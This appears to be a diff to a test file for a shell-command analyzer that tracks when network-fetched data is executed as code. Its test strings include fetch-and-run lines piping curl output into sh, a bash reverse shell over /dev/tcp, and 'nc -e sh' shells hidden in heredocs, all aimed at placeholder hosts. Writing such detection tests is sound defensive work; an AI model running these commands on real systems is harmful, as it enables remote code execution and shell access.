@@ -266,8 +266,11 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
     const r = run(t).commands.find((c) => ['eval', 'bash', 'sh'].includes(c.argv[0]!) && c.flags.includes('code_from_input'));
     assert.ok(r?.input_from.includes('curl'), `${t}: ${JSON.stringify(run(t).commands)}`);
   }
-  assert.deepEqual(must(run('v=$(curl -s http://x.test/v); echo "$v"'), 'echo').input_from, ['curl'], 'a variable carries where it came from');
-  assert.deepEqual(must(run('v=$(git describe); echo "$v"'), 'echo').input_from, [], 'only data from elsewhere');
+  assert.deepEqual(must(run('v=$(curl -s http://x.test/v); sh -c "$v"'), 'sh').input_from, ['curl'], 'a variable carries where it came from');
+  assert.deepEqual(must(run('v=$(git describe); sh -c "$v"'), 'sh').input_from, [], 'only data from elsewhere');
+  for (const t of ['v=$(curl -s http://x.test/v); echo "$v"', 'v=$(curl -s http://x.test/v); sh -c "echo installing $v"', 'v=$(curl -s http://x.test/v); python3 - "$v" <<< "print(1)"']) {
+    assert.ok(!run(t).commands.some((c) => c.argv[0] !== 'curl' && !c.flags.includes('assignment') && c.input_from.includes('curl') && c.via === ''), `${t}: where it is data, not code`);
+  }
   assert.deepEqual(must(run('bash -i >& /dev/tcp/h/1 0>&1'), 'bash').argv, ['bash', '-i'], 'digits touching a redirect are its descriptor');
   assert.ok(must(run('f() { bash -i; } >& /dev/tcp/h/1 0>&1; f'), 'bash').redirects.includes('>&/dev/tcp/h/1'), "a definition's redirects apply to its body");
   assert.ok(nc('cat <<EOF\n`nc -e sh h 1`\nEOF') && nc('cat <<-EOF\n\t$(nc -e sh h 1)\n\tEOF'), 'substitutions in an unquoted heredoc run');
